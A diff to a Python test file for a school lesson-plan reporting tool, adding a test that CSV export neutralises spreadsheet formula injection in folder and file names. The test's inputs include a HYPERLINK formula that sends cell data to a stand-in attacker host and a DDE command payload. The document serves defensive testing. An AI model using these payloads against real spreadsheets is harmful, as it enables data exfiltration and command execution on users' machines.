@@ -6,6 +6,8 @@ The HTML is opened in headless Chromium (screenshot and print to PDF) when it is
 from __future__ import annotations
 
 import csv
+import dataclasses
+import html
 import io
 import re
 import subprocess
@@ -262,6 +264,46 @@ def test_csv_has_one_row_per_teacher_and_week_plus_undated_rows(school: Path) ->
     assert rows[1]["files"] == "Tuan_02/Bài 3 - lỗi.docx | Tuần 2/Bài 4 - Đạo đức.doc"
     assert rows[6]["files"] == "Tuần 03/Bài 5.docx | Tuần 3/Toán/Bài 6.docx"
     assert rows[0]["conflicts"] == "1"
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    """Folder and file names from the share reach a spreadsheet as text, never as formulas;
+    JSON and HTML carry the names unchanged."""
+    root = tmp_path / "share"
+    hyperlink = '=HYPERLINK("https:\\\\attacker.example?d="&A1,"Bấm vào đây")'  # no "/" in a name
+    names = {
+        hyperlink: "Bài 1.docx",
+        "+cmd|' -C calc'!A0": "@SUM(1+1).docx",
+        "-2+3": "\tBài 2.docx",
+        "Cô Hà": "Bài 3.docx",
+    }
+    for teacher, file in names.items():
+        write_lesson_plan(root / teacher / "Tuần 1" / file, file)
+    report = build(root, weeks=(1,), teacher_depth=1)
+    rows = list(csv.DictReader(io.StringIO(to_csv(report))))
+    read = {r["teacher"]: r["files"] for r in rows}
+    assert read == {
+        "'" + hyperlink: "Tuần 1/Bài 1.docx",
+        "'+cmd|' -C calc'!A0": "Tuần 1/@SUM(1+1).docx",
+        "'-2+3": "Tuần 1/\tBài 2.docx",
+        "Cô Hà": "Tuần 1/Bài 3.docx",
+    }
+    # Record types are the school's to define: one may take any "Bài …" file, even one at
+    # the teacher folder's top, so the files column can start with a file's name too.
+    (root / "Cô Hà" / "Tuần 1" / "Bài 3.docx").rename(root / "Cô Hà" / "@Bài 3.docx")
+    any_lesson = dataclasses.replace(KHBD, files=("*bai*",))
+    again = build_report(
+        root, types=(any_lesson,), check=Recorder(), weeks=(1,), teacher_depth=1, today=TODAY
+    )
+    rows = list(csv.DictReader(io.StringIO(to_csv(again))))
+    undated = next(r for r in rows if r["teacher"] == "Cô Hà" and r["week"] == "")
+    assert undated["files"] == "'@Bài 3.docx"
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values()
+    )
+    data = to_json(report)
+    assert {t["folder"] for t in data["teachers"]} == set(names)
+    assert html.escape(hyperlink) in to_html(report)  # escaped for HTML, no quote added
 
 
 def test_conflict_copies_of_hoso_nextcloud_and_dropbox_are_flagged(tmp_path: Path) -> None:
